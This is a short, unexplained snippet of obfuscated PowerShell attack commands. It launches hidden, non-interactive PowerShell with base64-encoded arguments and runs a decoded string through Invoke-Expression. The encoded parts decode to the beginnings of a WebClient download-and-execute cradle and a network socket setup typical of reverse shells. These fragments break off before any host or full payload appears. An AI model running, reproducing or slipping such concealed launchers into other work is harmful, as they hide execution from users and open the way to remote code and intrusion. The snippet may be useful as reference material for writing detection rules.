powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA
Start-Process powershell -ArgumentList '-nop -w hidden -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=' -WindowStyle Hidden
$b = 'JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBTAG8AYwBrAGUAdABzAA=='
$decoded = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($b))
Invoke-Expression $decoded
